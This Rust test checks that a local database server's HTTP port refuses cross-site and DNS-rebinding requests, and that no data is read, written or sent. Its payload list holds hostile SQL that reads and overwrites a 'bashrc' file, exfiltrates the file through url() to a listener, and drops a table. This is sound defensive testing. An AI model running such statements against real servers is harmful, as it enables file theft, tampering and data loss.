//! What a web page can have a browser send to this port: refused before anything of it is read.

use std::net::TcpListener;

use reqwest::Method;

use crate::client::{Client, query};

#[tokio::test]
async fn no_statement_of_a_foreign_page_is_run() {
    let client = Client::start();
    client.run("CREATE TABLE t (n UInt8) ENGINE = MergeTree ORDER BY n").await;
    client.run("INSERT INTO t VALUES (1)").await;
    let folder = tempfile::tempdir().unwrap();
    let victim = folder.path().join("bashrc");
    std::fs::write(&victim, "mine\n").unwrap();
    let file = format!("file('{}', 'LineAsString', 's String')", victim.display());
    let elsewhere = TcpListener::bind("127.0.0.1:0").unwrap();
    elsewhere.set_nonblocking(true).unwrap();
    let address = elsewhere.local_addr().unwrap();
    let evil_name = format!("evil.example:{}", client.server.url().rsplit(':').next().unwrap());
    let statements = [
        format!("SELECT * FROM {file}"),
        format!("INSERT INTO FUNCTION {file} SELECT 'pwned'"),
        format!(
            "INSERT INTO FUNCTION url('http://{address}/', 'LineAsString', 's String') SELECT s FROM {file}"
        ),
        "DROP TABLE t".to_owned(),
        "SELECT n FROM t".to_owned(),
    ];
    for headers in [
        vec![("origin", "http://evil.example")],
        vec![("origin", "null")],
        vec![("host", evil_name.as_str())],
        // A rebound page is of one origin with us, by its name.
        vec![("host", evil_name.as_str()), ("sec-fetch-site", "same-origin")],
        // An image, and a link: people have no business here.
        vec![("sec-fetch-site", "cross-site"), ("sec-fetch-mode", "no-cors"), ("sec-fetch-dest", "image")],
        vec![
            ("sec-fetch-site", "cross-site"),
            ("sec-fetch-mode", "navigate"),
            ("sec-fetch-dest", "document"),
        ],
    ] {
        for statement in &statements {
            for (method, parameters, body) in [
                (Method::POST, String::new(), statement.clone()),
                (Method::GET, query(statement), String::new()),
            ] {
                let answer = client.send(method.clone(), &parameters, &headers, body).await;
                let (name, value) = headers[0];
                assert_eq!(answer.status, 403, "{method} {statement} {headers:?}: {}", answer.text());
                assert!(
                    answer.text().to_lowercase().contains(&format!("{name}: `{value}`")),
                    "{}",
                    answer.text()
                );
            }
        }
    }
    assert_eq!(client.count("t").await, 1);
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "mine\n");
    assert!(elsewhere.accept().is_err(), "something was sent");
}
